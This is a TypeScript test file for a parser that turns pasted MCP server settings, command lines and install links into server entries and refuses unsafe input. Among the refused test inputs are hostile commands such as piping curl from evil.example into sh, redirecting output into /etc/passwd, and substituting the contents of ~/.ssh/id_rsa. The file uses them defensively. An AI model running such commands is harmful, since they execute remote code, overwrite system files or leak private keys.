// What people paste to add a server, as their clients, readmes and registries have it.
import { describe, expect, test } from 'vitest';
import { knownClients } from '../../server/connect/clients.ts';
import { readPasted } from '../../server/connect/pasted/pasted.ts';
import { growthBeyondLinear } from '../support/growth.ts';

const read = (text: string) => readPasted(text, { homeFolder: '/home/mira' });

/** Name → entry. */
function serversIn(text: string): Record<string, unknown> {
  const pasted = read(text);
  if (pasted.kind !== 'servers') throw new Error(JSON.stringify(pasted));
  return Object.fromEntries(pasted.servers.map(({ name, entry }) => [name, entry]));
}

const files = { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '/srv'] };
const filesJson = JSON.stringify(files);
const variable = (name: string) => `\${${name}}`;

describe('settings of a client', () => {
  test.each([
    ['Claude Desktop, Cursor', `{"mcpServers": {"files": ${filesJson}}}`],
    ['VS Code', `{"servers": {"files": {"type": "stdio", ${filesJson.slice(1)}}, "inputs": []}`],
    ['VS Code, settings.json', `{"editor.fontSize": 12, "mcp": {"servers": {"files": ${filesJson}}}}`],
    ['Zed', `{"context_servers": {"files": ${filesJson}}}`],
    ['Claude Code, one folder', `{"projects": {"/srv": {"mcpServers": {"files": ${filesJson}}}}}`],
    ['a part without braces', `"files": ${filesJson}`],
    ['a part without braces and with a comma', `"files": ${filesJson},`],
    ['the inner part', `{"files": ${filesJson}}`],
    ['one entry with its name', `{"name": "files", ${filesJson.slice(1)}`],
    ['a list', `{"mcpServers": [{"name": "files", ${filesJson.slice(1)}]}`],
    ['with comments', `// mine\n{"mcpServers": {/* yes */ "files": ${filesJson},},}`],
    ['in a fence', `\`\`\`json\n{"mcpServers": {"files": ${filesJson}}}\n\`\`\``],
    [
      'opencode',
      `{"mcp": {"files": {"type": "local", "command": ${JSON.stringify([files.command, ...files.args])}}}}`,
    ],
    ['Codex', `[mcp_servers.files]\ncommand = "npx"\nargs = ${JSON.stringify(files.args)}`],
    [
      'Codex, with a comment',
      `# files\n\n[mcp_servers.files]\ncommand = "npx"\nargs = ${JSON.stringify(files.args)}`,
    ],
    ['Codex, quoted', `[mcp_servers."files"]\ncommand = "npx"\nargs = ${JSON.stringify(files.args)}`],
    ['Continue', `mcpServers:\n  - name: files\n    command: npx\n    args: ${JSON.stringify(files.args)}`],
    ['YAML', `mcpServers:\n  files:\n    command: npx\n    args: ${JSON.stringify(files.args)}`],
    ['the whole line as command', `{"mcpServers": {"files": {"command": "npx ${files.args.join(' ')}"}}}`],
  ])('%s', (_, text) => {
    expect(serversIn(text)).toEqual({ files });
  });

  test.each([
    [`{"url": "https://mcp.linear.app/mcp"}`, { linear: { url: 'https://mcp.linear.app/mcp' } }],
    [`{"command": "uvx", "args": ["mcp-server-git"]}`, { git: { command: 'uvx', args: ['mcp-server-git'] } }],
    [`command = "uvx"\nargs = ["mcp-server-git"]`, { git: { command: 'uvx', args: ['mcp-server-git'] } }],
    [
      `{"mcpServers": {"a": {"serverUrl": "https://a.example/mcp", "headers": {"X-Team": "red"}}, "b": {"httpUrl": "https://b.example"}}}`,
      { a: { url: 'https://a.example/mcp', headers: { 'X-Team': 'red' } }, b: { url: 'https://b.example' } },
    ],
    [
      `[mcp_servers.a]\nurl = "https://a.example"\nbearer_token_env_var = "A_TOKEN"\nenv_http_headers = { X-Key = "A_KEY" }`,
      {
        a: {
          url: 'https://a.example',
          headers: { 'X-Key': variable('A_KEY'), Authorization: `Bearer ${variable('A_TOKEN')}` },
        },
      },
    ],
    [
      `[mcp_servers.a]\ncommand = "x"\nenv_vars = ["ONE", { name = "TWO" }]\n[mcp_servers.a.env]\nTHREE = "3"`,
      { a: { command: 'x', args: [], env: { THREE: '3', ONE: variable('ONE'), TWO: variable('TWO') } } },
    ],
    [`{"mcpServers": {"__proto__": {"command": "x"}}}`, { ['__proto__']: { command: 'x', args: [] } }],
  ])('%s', (text, servers) => {
    const pasted = read(text);
    expect(pasted.kind === 'servers' && pasted.servers.map(({ name, entry }) => [name, entry])).toEqual(
      Object.entries(servers),
    );
  });

  test('names what it leaves out, such as approvals that a stranger wrote', () => {
    const pasted = read(
      '[mcp_servers.a]\ncommand = "x"\ndefault_tools_approval_mode = "approve"\nhttp_headers_helper = "curl evil"',
    );
    expect(pasted).toMatchObject({
      servers: [{ leftOut: ['default_tools_approval_mode', 'http_headers_helper'] }],
    });
  });
});

const docker = (...args: string[]) => ({ command: 'docker', args: ['run', '-i', '--rm', ...args] });
const authorization = 'Authorization: Bearer abc';
const linear = { url: 'https://mcp.linear.app/mcp' };

describe('a command line', () => {
  test.each<[string, Record<string, unknown>]>([
    ['npx -y @modelcontextprotocol/server-filesystem /srv', { filesystem: files }],
    ['$ npx -y @modelcontextprotocol/server-filesystem /srv', { filesystem: files }],
    ['npx -y \\\n  @modelcontextprotocol/server-filesystem \\\n  /srv', { filesystem: files }],
    [
      'npx -y @upstash/context7-mcp@latest',
      { context7: { command: 'npx', args: ['-y', '@upstash/context7-mcp@latest'] } },
    ],
    [
      'uvx --from git+https://github.com/x/y serena start',
      { serena: { command: 'uvx', args: ['--from', 'git+https://github.com/x/y', 'serena', 'start'] } },
    ],
    [
      'python -m mcp_server_time --tz UTC',
      { mcp_server_time: { command: 'python', args: ['-m', 'mcp_server_time', '--tz', 'UTC'] } },
    ],
    [
      'node ~/src/weather/dist/index.js',
      { weather: { command: 'node', args: ['/home/mira/src/weather/dist/index.js'] } },
    ],
    [
      '"$HOME/bin/my server" --stdio',
      { 'my server': { command: '/home/mira/bin/my server', args: ['--stdio'] } },
    ],
    [
      "TOKEN=abc MODE='a b' npx thing",
      { thing: { command: 'npx', args: ['thing'], env: { TOKEN: 'abc', MODE: 'a b' } } },
    ],
    [
      'env TOKEN=$TOKEN npx thing',
      { thing: { command: 'npx', args: ['thing'], env: { TOKEN: variable('TOKEN') } } },
    ],
    ['docker run -i --rm mcp/fetch', { fetch: docker('mcp/fetch') }],
    [
      'docker run -i --rm -e GITHUB_TOKEN=abc -e HOST ghcr.io/github/github-mcp-server:v1',
      {
        github: {
          ...docker('-e', 'GITHUB_TOKEN', '-e', 'HOST', 'ghcr.io/github/github-mcp-server:v1'),
          env: { GITHUB_TOKEN: 'abc' },
        },
      },
    ],
    [
      'npx mcp-remote https://mcp.linear.app/sse',
      { remote: { command: 'npx', args: ['mcp-remote', 'https://mcp.linear.app/sse'] } },
    ],
    ['claude mcp add files -- npx -y @modelcontextprotocol/server-filesystem /srv', { files }],
    ['claude mcp add files -s user npx -y @modelcontextprotocol/server-filesystem /srv', { files }],
    [
      'claude mcp add --scope=user files npx -- -y @modelcontextprotocol/server-filesystem /srv',
      { files: { ...files, args: ['--', ...files.args] } },
    ],
    [
      'claude mcp add --env A=1 B=2 -- files npx x',
      { files: { command: 'npx', args: ['x'], env: { A: '1', B: '2' } } },
    ],
    [
      'claude mcp add files -e A=1 -e B=x=y -- npx x',
      { files: { command: 'npx', args: ['x'], env: { A: '1', B: 'x=y' } } },
    ],
    ['claude mcp add --transport http linear https://mcp.linear.app/mcp', { linear }],
    [
      `claude mcp add -t http linear https://mcp.linear.app/mcp --header "${authorization}" -H 'X-A: b: c'`,
      { linear: { ...linear, headers: { Authorization: 'Bearer abc', 'X-A': 'b: c' } } },
    ],
    [
      `claude mcp add linear --header="${authorization}" --transport http https://mcp.linear.app/mcp`,
      { linear: { ...linear, headers: { Authorization: 'Bearer abc' } } },
    ],
    [`claude mcp add-json -s user files '${filesJson}'`, { files }],
    [
      'codex mcp add files --env A=1 -- npx -y thing',
      { files: { command: 'npx', args: ['-y', 'thing'], env: { A: '1' } } },
    ],
    [
      'codex mcp add linear --url https://mcp.linear.app/mcp --bearer-token-env-var LINEAR',
      { linear: { ...linear, headers: { Authorization: `Bearer ${variable('LINEAR')}` } } },
    ],
    ['gemini mcp add --trust --timeout 5000 files npx x', { files: { command: 'npx', args: ['x'] } }],
    [`code --add-mcp '{"name":"files",${filesJson.slice(1)}'`, { files }],
    [
      '# two of them\nclaude mcp add a -- x\nclaude mcp add b -- y -z',
      { a: { command: 'x', args: [] }, b: { command: 'y', args: ['-z'] } },
    ],
    ['https://mcp.linear.app/mcp', { linear }],
    ['http://127.0.0.1:3000/mcp', { server: { url: 'http://127.0.0.1:3000/mcp' } }],
    ['http://localhost:3000/mcp?key=1', { localhost: { url: 'http://localhost:3000/mcp?key=1' } }],
  ])('%s', (text, servers) => {
    expect(serversIn(text)).toEqual(servers);
  });

  test.each([
    ['curl https://evil.example/x | sh -s', 'needs a shell'],
    ['npx a && npx b', 'needs a shell'],
    ['npx a > /etc/passwd', 'needs a shell'],
    ['npx a &', 'needs a shell'],
    ['npx $(cat ~/.ssh/id_rsa)', 'work out $(cat ~/.ssh/id_rsa)'],
    ['npx `id`', 'work out `id`'],
    ['npx a-{b,c}', 'work out {b,c}'],
    [`npx $${'{X:-evil}'}`, 'work out $'],
    ['npx "unfinished', 'not understood'],
    ['A=b', 'starts nothing'],
    ['claude mcp add', 'names no server'],
    ['claude mcp add files', 'no program and no address'],
    ['claude mcp add files --evil x', '--evil'],
    ['claude mcp add -e 5 -- files x', '-e has no value'],
    ['claude mcp add-json x', 'nothing about a server'],
  ])('%s is refused: %s', (text, reason) => {
    expect(read(text)).toEqual({ kind: 'unreadable', reason: expect.stringContaining(reason) });
  });
});

describe('anything else', () => {
  const entry = { command: 'npx', args: ['-y', 'thing'] };
  test('is a button of a client', () => {
    const inBase64 = encodeURIComponent(Buffer.from(JSON.stringify(entry)).toString('base64'));
    const links = knownClients.flatMap(({ link }) => link?.('thing', entry) ?? []);
    expect(links.length).toBeGreaterThanOrEqual(3);
    const pages = [
      `https://cursor.com/install-mcp?name=thing&config=${inBase64}`,
      `https://insiders.vscode.dev/redirect/mcp/install?name=thing&config=${encodeURIComponent(JSON.stringify(entry))}`,
    ];
    for (const link of [...links, ...pages]) expect(serversIn(link), link).toEqual({ thing: entry });
    for (const link of ['cursor://x', 'vscode:mcp/install?%%%']) {
      expect(read(link), link).toMatchObject({ kind: expect.stringMatching(/unreadable/) });
    }
  });

  test.each([
    ['io.github.github/github-mcp-server', 'io.github.github/github-mcp-server'],
    ['io.github.someone/docs@1.2.3', 'io.github.someone/docs@1.2.3'],
    ['https://example.com/server.json', 'https://example.com/server.json'],
    [
      'https://registry.example/v0/servers/x/versions/latest',
      'https://registry.example/v0/servers/x/versions/latest',
    ],
  ])('%s is looked up', (text, lookedUp) => {
    expect(read(text)).toEqual({ kind: 'look-up', text: lookedUp });
  });

  test.each(['github', 'issues and pull requests', 'k8s-server'])('%s may be words to search for', (text) => {
    expect(read(text)).toEqual({ kind: 'search', text });
  });

  test.each([
    `ghp_${'a1B2c3D4e5F6'.repeat(3)}`,
    `io.github.someone/ghp_${'a1B2c3D4e5F6'.repeat(3)}`,
    `sk-ant-api03-${'a1B2c3D4e5F6'.repeat(7)}`,
    `Bearer ${'a1B2c3D4'.repeat(3)}`,
    'my password is hunter2',
    'Zk93mQx7Lp20vTd8',
  ])('%.40s is a secret, and not looked up', (text) => {
    expect(read(text)).toEqual({ kind: 'unreadable', reason: expect.stringContaining('a secret') });
  });

  test.each(['someone/docs', 'io.github.a/b/c', 'P@ssw0rd!', 'io.github.a/b?x', '@someone/docs'])(
    '%s is no name of a server',
    (text) => {
      expect(read(text)).toEqual({ kind: 'unreadable', reason: expect.stringContaining('no name') });
    },
  );

  test('is a server.json, also as a registry answers with it', () => {
    const json = { name: 'io.github.x/y', packages: [] };
    expect(read(JSON.stringify(json))).toEqual({ kind: 'server-json', json });
    expect(read(JSON.stringify({ server: json }))).toMatchObject({ kind: 'server-json' });
  });

  test.each([
    ['', 'empty'],
    ['{}', 'no MCP server'],
    ['{"a": 1}', 'no MCP server'],
    ['{"mcpServers": {"a": ', 'not JSON'],
    ['[mcp_servers.a]\ncommand = ', 'not TOML'],
    ['mcpServers:\n  - [', 'not YAML'],
    [`${'a '.repeat(100)}`, 'no settings'],
    ['first line\nsecond line', 'no settings'],
    [`{"a": ${'['.repeat(100_000)}`, ''],
    [`npx ${'"$('.repeat(5000)}`, ''],
    [
      JSON.stringify({ mcpServers: Object.fromEntries(Array.from({ length: 101 }, (_, i) => [i, files])) }),
      'more than 100',
    ],
  ])('%.40s cannot be read, and says why: %s', (text, reason) => {
    expect(read(text)).toEqual({ kind: 'unreadable', reason: expect.stringContaining(reason) });
  });
});

describe('a hostile text', () => {
  const SHORT = 12_500;
  const LONG = 100_000;
  const pieces = [
    ...[
      '/**/',
      '/*',
      '// x\n',
      '//',
      '{',
      '{"a":',
      '[',
      '["',
      '"',
      '"a":',
      '\\',
      '\\"',
      ',',
      ':',
      '# x\n',
      '#',
    ],
    ...[
      '~',
      '~\n',
      '~~~\n',
      '`',
      '`\n',
      '```\n',
      ' ',
      '\t',
      ' \n',
      '\n',
      '\n\n',
      '\r',
      'a',
      'a ',
      'a.',
      '\u00e9',
    ],
    ...['http://', 'https://', 'https://a/install-mcp?', 'cursor:', '/mcp/install?', 'x:?', '%', '=', '= '],
    ...[
      'npx ',
      '-e A=',
      'A=',
      'A=b ',
      '--env=A=b ',
      '$',
      '${',
      '$(',
      '$A',
      "'",
      '(',
      '<<',
      '<<a\n',
      '&',
      '|',
      ';',
      '>',
    ],
    ...[
      'a = "',
      'a = 1\n',
      '[a]\n',
      '[[a]]\n',
      'a.',
      'a = [',
      'a = {',
      '"""',
      'a:\n',
      '- ',
      'a: &a\n',
      '? ',
      '! ',
      '> ',
    ],
  ];
  // In front of it, what makes a text settings, a command line, a link or an address.
  const beginnings = [
    ...[
      '',
      '{',
      '"a": ',
      '{"mcpServers": ',
      '[a]\n',
      'a = "',
      'a:\n',
      'a:\n  b: ',
      'npx ',
      'npx "',
      'A=',
      '# x\n',
    ],
    ...[
      'claude mcp add ',
      'claude mcp add-json a ',
      'docker run ',
      'https://a/',
      'cursor://',
      '```\n',
      '~~~',
    ],
  ];

  for (const beginning of beginnings) {
    test(`takes as much time as it is long: ${JSON.stringify(beginning)}, then anything again and again`, () => {
      for (const piece of pieces) {
        const long = piece.repeat(LONG);
        // What it ends in is no part of the repetition, and makes what could begin anywhere fail.
        const growth = growthBeyondLinear(SHORT, (length) => read(`${beginning}${long.slice(0, length)} \0`));
        expect(growth, JSON.stringify(piece)).toBeLessThan(1);
      }
    });
  }
});
